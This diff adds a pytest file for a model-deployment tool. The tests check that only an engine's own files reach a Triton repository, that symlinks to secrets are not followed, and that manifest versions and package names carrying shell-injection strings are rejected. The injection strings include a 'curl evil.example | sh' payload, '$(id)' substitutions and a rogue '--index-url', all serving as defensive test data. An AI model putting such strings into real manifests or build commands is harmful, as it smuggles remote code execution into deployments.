@@ -1,0 +1,88 @@
+"""What of an engine gets into a model repository, and what its manifest may put into shell lines there."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.made_run import made_run, served_repository
+from trsp_deploy import cli
+from trsp_deploy.artifacts import fingerprint
+from trsp_deploy.errors import RunError
+from trsp_deploy.stages.triton_repository import _link_engine
+from trsp_deploy.tools.model_repository.manifest import read_repository
+from trsp_deploy.tools.runners.manifest import read_manifest
+
+ENDS_THE_QUOTES = ["1.0'; curl evil.example | sh; '", "1.0\nRUN curl evil.example", "1.0 $(id)", "1.0`id`", '1"', "-r"]
+
+
+@pytest.fixture
+def engine(tmp_path: Path) -> Path:
+    return made_run(tmp_path / "run") / "engines" / "ort-cpu-fp32" / "pruned"
+
+
+def test_only_an_engines_own_files_are_shipped(engine: Path, tmp_path: Path) -> None:
+    """Whatever lay in its folder was, with what a link there led to."""
+    secret = tmp_path / "elsewhere"
+    secret.mkdir()
+    (secret / "key").write_text("secret")
+    (engine / "notes.txt").write_text("mine")
+    (engine / "folder").symlink_to(secret)
+    (engine / "manifest.json.sig").write_text("signature")
+    for name in ("trtexec.sh", "changed.onnx"):
+        (engine / name).write_text(name)
+    (engine / "linked.sh").symlink_to(secret / "key")
+    beside = {name: fingerprint(engine / name) for name in ("trtexec.sh", "changed.onnx", "linked.sh")}
+    (engine / "changed.onnx").write_text("other")
+    manifest = read_manifest(engine).model_copy(update={"beside": {**beside, "gone.sh": "0"}})
+    _link_engine(engine, manifest, tmp_path / "shipped")
+    shipped = {path.name for path in (tmp_path / "shipped").rglob("*")}
+    assert shipped == {"manifest.json", "manifest.json.sig", "model.onnx", "model.onnx.data", "trtexec.sh"}
+    assert all(path.read_bytes() == (engine / path.name).read_bytes() for path in (tmp_path / "shipped").iterdir())
+
+
+def test_a_signature_that_is_a_link_is_not_followed(engine: Path, tmp_path: Path) -> None:
+    (tmp_path / "key").write_text("secret")
+    (engine / "manifest.json.sig").symlink_to(tmp_path / "key")
+    _link_engine(engine, read_manifest(engine), tmp_path / "shipped")
+    assert not (tmp_path / "shipped" / "manifest.json.sig").exists()
+
+
+@pytest.mark.parametrize("version", ENDS_THE_QUOTES)
+def test_a_version_that_is_none_gets_into_no_shell_line(
+    version: str, engine: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Of an engine from somebody else the README's command and the Dockerfile would have run it."""
+    manifest = json.loads((engine / "manifest.json").read_text())
+    del manifest["sha256"]
+    (engine / "manifest.json").write_text(json.dumps({**manifest, "backend_version": version}))
+    assert cli.run(["triton", str(tmp_path / "run"), "--out", str(tmp_path / "out"), "--engine", "ort-cpu-fp32"]) == 1
+    (line,) = capsys.readouterr().err.splitlines()
+    assert "manifest.json: " in line and "'backend_version'" in line, line
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize("package", ["onnxruntime==1'; id; '", "a b", "--index-url=https://evil.example", "x\nRUN id"])
+def test_a_package_of_an_earlier_repository_is_one(package: str, tmp_path: Path) -> None:
+    found: dict[str, Any] = served_repository()
+    found["models"][0]["packages"] = [package]
+    (tmp_path / "MANIFEST.json").write_text(json.dumps(found))
+    with pytest.raises(RunError, match="packages"):
+        read_repository(tmp_path)
+
+
+@pytest.mark.parametrize("version", ["1.32.0", "10.13.0.35", "1.20.0+cu12.8", "1.23.0.dev20260901", "1.4.0-rc.1"])
+def test_versions_of_packages_are_taken(version: str, engine: Path, tmp_path: Path) -> None:
+    manifest = json.loads((engine / "manifest.json").read_text())
+    del manifest["sha256"]
+    copy = Path(shutil.copytree(engine, tmp_path / "copy"))
+    (copy / "manifest.json").write_text(json.dumps({**manifest, "backend_version": version}))
+    assert read_manifest(copy).backend_version == version
+    found = served_repository()
+    found["models"][0] |= {"backend_version": version, "packages": [f"onnxruntime=={version}", "pydantic>=2.12"]}
+    (tmp_path / "MANIFEST.json").write_text(json.dumps(found))
+    assert read_repository(tmp_path).models[0].backend_version == version
